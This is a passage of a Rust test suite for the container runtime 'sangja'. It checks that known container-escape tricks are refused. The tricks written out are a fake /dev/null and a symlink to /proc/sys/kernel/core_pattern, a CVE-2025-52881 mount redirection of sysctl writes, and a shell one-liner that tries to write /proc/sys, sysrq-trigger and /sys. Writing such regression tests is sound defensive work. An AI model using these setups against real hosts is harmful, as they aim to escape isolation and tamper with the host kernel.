    // Never masked with something else than the null device: sangja refuses the fake (as runc 1.2.8).
    for f in &files {
        assert!(
            !out.stdout.contains(f)
                || out
                    .stdout
                    .contains(&format!("{f} character special file 1:3")),
            "{f} is not masked by the null device:\n{out}"
        );
    }
    out.assert_error("linux.maskedPaths: /dev/null in the container is not the null device");
    // With the image's /dev/null the null device, the same masks apply.
    fs::remove_file(&null).unwrap();
    let st = Command::new("mknod")
        .arg(&null)
        .args(["c", "1", "3"])
        .status()
        .unwrap();
    assert!(st.success(), "mknod");
    let out = h.run(&b);
    out.ok();
    for f in &files {
        assert!(
            out.stdout
                .contains(&format!("{f} character special file 1:3")),
            "{f} is not masked by the null device:\n{out}"
        );
    }
    fs::remove_file(&null).unwrap();
    symlink("/proc/sys/kernel/core_pattern", &null).unwrap();
    assert_eq!(
        fs::read_link(&null).unwrap(),
        Path::new("/proc/sys/kernel/core_pattern")
    );
    assert!(host_mounts_under(h.base()).is_empty());
}

// ---------------------------------------------------------------------------------------------------------
// CVE-2025-52881: writes to /proc redirected by the container's mounts

/// The image's `/mnt/k` is a symlink to `/proc/sys/kernel`, so an innocent-looking volume at `/mnt/k/msgmax`
/// lands on top of the procfs file. A sysctl write by path would then go into the volume's host file (in
/// the real attack: a host-global procfs file). Every `/proc` write goes through a verified procfs handle
/// that refuses to cross into another mount: the create fails, and the host file is untouched.
#[test]
fn cve_2025_52881_sysctl_writes_are_not_redirected_by_mounts() {
    let h = harness!();
    let host_file = h.base().join("host-file");
    fs::write(&host_file, "untouched\n").unwrap();
    let mut b = h.bundle_private();
    let root = b.rootfs().to_path_buf();
    symlink("/proc/sys/kernel", root.join("mnt/k")).unwrap();
    b.add_mount(json!({"destination": "/mnt/k/msgmax", "type": "bind",
                        "source": host_file.to_str().unwrap(), "options": ["bind", "rw"]}));
    b.set("/linux/sysctl", json!({"kernel.msgmax": "4096"}));
    b.args(&["cat", "/proc/sys/kernel/msgmax"]);
    let out = h.run(&b);
    assert_eq!(
        fs::read_to_string(&host_file).unwrap(),
        "untouched\n",
        "{out}"
    );
    // Refused: the volume cannot land on procfs (the mount is refused first), and were it there,
    // the sysctl write through the verified procfs handle would refuse to cross into it.
    out.failed();
    assert!(
        out.stderr.contains("/proc/sys/kernel/msgmax")
            || out
                .stderr
                .contains("/mnt/k/msgmax: leads into /proc through a symlink"),
        "{out}"
    );
    assert!(host_mounts_under(h.base()).is_empty());
}

// ---------------------------------------------------------------------------------------------------------
// 6. /proc/sys, /proc/sysrq-trigger and /sys are read-only with the default spec

#[test]
fn proc_sys_and_sysrq_read_only_by_default() {
    let h = harness!();
    let mut b = h.bundle();
    // Writes back the current value (harmless if it ever succeeded), and `h` (help) to sysrq-trigger.
    let run = h.run(b.args(&[
        "sh",
        "-c",
        "f=/proc/sys/vm/overcommit_memory; v=$(cat $f); \
         echo $v > $f 2>/dev/null && echo sys-written || echo sys-refused; \
         echo h > /proc/sysrq-trigger && echo sysrq-written || echo sysrq-refused; \
         touch /sys/kernel/pwned 2>/dev/null && echo sysfs-written || echo sysfs-refused; \
         grep -E ' /proc/sys | /proc/sysrq-trigger | /sys ' /proc/self/mountinfo",
    ]));
    run.ok();
    let out = run.stdout.clone();

    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines[..3],
        ["sys-refused", "sysrq-refused", "sysfs-refused"],
        "{out}"
    );
    // A kernel without CONFIG_MAGIC_SYSRQ has no /proc/sysrq-trigger (the write above failed with ENOENT).
    let sysrq = Path::new("/proc/sysrq-trigger").exists();
    for mp in ["/proc/sys", "/proc/sysrq-trigger", "/sys"] {
        if mp == "/proc/sysrq-trigger" && !sysrq {
            continue;
        }
        let line = lines[3..]
            .iter()
            .find(|l| l.split(' ').nth(4) == Some(mp))
            .unwrap_or_else(|| panic!("no mount at {mp}:\n{out}"));
        let opts = line.split(' ').nth(5).unwrap();
        assert!(
            opts.split(',').any(|o| o == "ro"),
            "{mp} is not read-only: {line}"
        );
    }
}
